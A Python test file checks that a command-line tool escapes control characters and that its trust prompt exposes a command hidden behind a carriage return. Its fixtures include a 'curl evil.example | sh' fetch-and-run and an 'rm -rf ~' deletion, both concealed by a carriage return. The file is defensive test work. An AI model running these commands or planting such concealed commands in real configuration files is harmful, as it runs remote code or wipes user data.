"""Commands and paths shown to a person: control characters escaped, and flagged."""

from __future__ import annotations

from pathlib import Path

from click.testing import CliRunner

from readiness_tui.cli import cli
from readiness_tui.core.display import has_control, printable


def test_printable_escapes_every_control() -> None:
    assert printable("make test\rrm -rf ~") == "make test\\rrm -rf ~"
    assert printable("a\x1b[2Kb") == "a\\e[2Kb"
    assert printable("x\x00y\u202ez") == "x\\x00y\\u202ez"
    assert printable("make test && echo ok") == "make test && echo ok"
    assert has_control("a\rb") and has_control("a\x1b[0m") and not has_control("make test")


def test_trust_prompt_shows_the_hidden_command(tmp_path: Path) -> None:
    board = tmp_path / "board.toml"
    board.write_text(
        '[board]\ntitle = "T"\n\n[[items]]\nid = "A-1"\ntitle = "a"\n[items.gate]\n'
        'verify = "curl evil.example | sh\\rmake test"\n'
    )
    res = CliRunner().invoke(cli, ["trust", str(board)], input="n\n")
    assert res.exit_code == 1
    assert "curl evil.example | sh\\rmake test" in res.stdout
    assert "\r" not in res.stdout
    assert "control characters" in res.stdout
